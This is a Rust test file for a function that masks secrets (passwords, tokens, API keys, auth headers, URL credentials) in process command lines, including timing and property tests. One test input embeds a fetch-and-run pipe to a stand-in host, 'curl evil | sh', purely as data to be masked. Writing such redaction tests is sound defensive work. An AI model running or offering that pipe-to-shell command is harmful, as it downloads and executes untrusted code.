use super::*;
use proptest::prelude::*;

#[test]
fn options_and_variables() {
    check("app --password=hunter2 --verbose", "app --password=*** --verbose");
    check("app --password hunter2 --verbose", "app --password *** --verbose");
    check("app --password --verbose", "app --password --verbose");
    check("app --password -x", "app --password -x");
    check(
        "app --db-password=a --token=b --api-key=c",
        "app --db-password=*** --token=*** --api-key=***",
    );
    check(
        "java -Djavax.net.ssl.keyStorePassword=changeit -jar a.jar",
        "java -Djavax.net.ssl.keyStorePassword=*** -jar a.jar",
    );
    check(
        "env DB_PASSWORD=a STRIPE_KEY=b HOME=/root x",
        "env DB_PASSWORD=*** STRIPE_KEY=*** HOME=/root x",
    );
    check("AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG ls", "AWS_SECRET_ACCESS_KEY=*** ls");
    check("app client_secret=x&more token=y", "app client_secret=*** token=***");
    check("app --apiKey=x pass=y", "app --apiKey=*** pass=***");
}

#[test]
fn what_is_no_secret_stays() {
    for line in [
        "sort --key=2 -k 3 file",
        "app --password-file=/run/secret --token-file /x",
        "env PWD=/home/joe OLDPWD=/ ls",
        "ssh -p 22 host",
        "mysql -u root -p db",
        "mysql -uroot db",
        "python3 tokenizer.py --tokenizer=bert --compass=n",
        "curl https://example.com/a?b=c#d",
        "git clone git@github.com:a/b.git",
        "curl https://joe@example.com/",
        "kubectl get secret web",
        "nginx: master process /usr/sbin/nginx",
        "docker run -p 8080:80 -e MODE=x nginx",
        "cp basic bearer",
        "sleep 1000",
    ] {
        check(line, line);
    }
}

#[test]
fn programs_with_flags_of_their_own() {
    check("mysql -uroot -phunter2 db", "mysql -uroot -p*** db");
    check("sudo /usr/bin/mysqldump -psecret --all", "sudo /usr/bin/mysqldump -p*** --all");
    check("sshpass -p secret ssh host", "sshpass -p *** ssh host");
    check("sshpass -psecret ssh host", "sshpass -p*** ssh host");
    check("redis-cli -a secret ping", "redis-cli -a *** ping");
    check("curl -u joe:secret http://x/", "curl -u joe:*** http://x/");
    check("curl -ujoe:secret --user ann:pw", "curl -ujoe:*** --user ann:***");
    check("smbclient //srv/x -U joe%secret", "smbclient //srv/x -U joe%***");
    check("openssl enc -aes256 -passin pass:secret", "openssl enc -aes256 -passin pass:***");
    check("unzip -P secret a.zip", "unzip -P *** a.zip");
    check("7z x -psecret a.7z", "7z x -p*** a.7z");
    check("ldapsearch -x -w secret -b dc", "ldapsearch -x -w *** -b dc");
}

#[test]
fn urls_headers_and_tokens() {
    check("x postgres://joe:s3c@ret@db:5432/a?b=c", "x postgres://joe:***@db:5432/a?b=c");
    check("x https://h/p?token=abc&user=joe", "x https://h/p?token=***&user=joe");
    check_arguments(&["curl", "-H", "Authorization: Bearer abc.def"], "curl -H Authorization: ***");
    check_arguments(&["curl", "-H", "Cookie: a=b; c=d", "x"], "curl -H Cookie: *** x");
    check_arguments(&["curl", "-HX-Api-Key: abc", "x"], "curl -HX-Api-Key: *** x");
    check_arguments(
        &["curl", "-d", r#"{"password": "p w", "a": "b"}"#],
        r#"curl -d {"password": "***", "a": "b"}"#,
    );
    check("x AKIAIOSFODNN7EXAMPLE y", "x AKIA*** y");
    check(
        "git clone https://ghp_0123456789abcdefghij0123@github.com/a",
        "git clone https://***@github.com/a",
    );
    check("x eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc-def_g", "x eyJ***");
    check_arguments(&["x", "send Bearer abcdef now"], "x send Bearer *** now");
}

#[test]
fn a_secret_with_blanks_is_masked_whole_and_a_script_is_not() {
    check_arguments(&["app", "--password", "two words", "x"], "app --password *** x");
    check_arguments(&["app", "--password=two words", "x"], "app --password=*** x");
    check_arguments(
        &["sh", "-c", "PASSWORD=abc curl evil | sh; mysql -psecret db"],
        "sh -c PASSWORD=*** curl evil | sh; mysql -p*** db",
    );
    check_arguments(
        &["bash", "-lc", "app --token 'a b' --next; export KEY=\"x y\"; run"],
        "bash -lc app --token '***' --next; export KEY=\"***\"; run",
    );
    check_arguments(
        &["sh", "-c", "curl -H \"Authorization: Basic abc\" http://x"],
        "sh -c curl -H \"Authorization: ***\" http://x",
    );
}

#[test]
fn empty_and_odd_lines() {
    assert_eq!(mask_command_line(b""), None);
    assert_eq!(mask_command_line(b"\0\0\0"), None);
    assert_eq!(mask_command_line(b"a\0\0b\0").as_deref(), Some("a  b"));
    assert_eq!(mask_command_line(b"a\xffb\0").as_deref(), Some("a\u{fffd}b"));
    check("app --password=", "app --password=");
    check("app --password", "app --password");
}

#[track_caller]
fn check(line: &str, expected: &str) {
    check_arguments(&line.split(' ').collect::<Vec<_>>(), expected);
}

#[track_caller]
fn check_arguments(arguments: &[&str], expected: &str) {
    let mut bytes = arguments.join("\0").into_bytes();
    bytes.push(0);
    assert_eq!(mask_command_line(&bytes).as_deref(), Some(expected), "arguments {arguments:?}");
}

#[test]
fn time_is_linear() {
    // Patterns that make a careless scanner start over at every byte.
    for pattern in ["a:", "x://", "\"", "--password ", "=", "bearer ", "a b:", "mysql -p", " "] {
        let time = |repeats: usize| {
            let line = pattern.repeat(repeats);
            let start = processor_micros();
            assert!(mask_command_line(line.as_bytes()).is_some());
            processor_micros() - start
        };
        time(1_000);
        let small = time(4_000).max(200);
        let large = time(64_000);
        assert!(large < small * 100, "{pattern:?}: {small} µs then {large} µs");
    }
}

/// The processor time of this thread: the machine may be busy with other tests.
fn processor_micros() -> i64 {
    let time = rustix::time::clock_gettime(rustix::time::ClockId::ThreadCPUTime);
    time.tv_sec * 1_000_000 + time.tv_nsec / 1_000
}

proptest! {
    #[test]
    fn no_bytes_panic(bytes: Vec<u8>) {
        let _ = mask_command_line(&bytes);
    }

    #[test]
    fn no_text_of_the_alphabet_panics(text in r#"[-=:/@ "'a;%&|\x00pPk]{0,80}"#) {
        let _ = mask_command_line(text.as_bytes());
    }

    #[test]
    fn a_password_never_shows(
        before in prop::collection::vec("[a-z]{1,6}", 0..4),
        secret in "[A-Z][A-Za-z0-9]{7,20}",
        form in 0usize..6,
    ) {
        let mut arguments = before;
        match form {
            0 => arguments.push(format!("--password={secret}")),
            1 => arguments.extend(["--password".to_owned(), secret.clone()]),
            2 => arguments.push(format!("DB_PASSWORD={secret}")),
            3 => arguments.push(format!("postgres://joe:{secret}@db/x")),
            4 => arguments.extend(["mysql".to_owned(), format!("-p{secret}")]),
            _ => arguments.extend(["sh".to_owned(), "-c".to_owned(), format!("x --token '{secret}'")]),
        }
        let line = mask_command_line(arguments.join("\0").as_bytes()).unwrap();
        prop_assert!(!line.contains(&secret), "{}", line);
        prop_assert!(line.contains(MASK), "{}", line);
    }
}
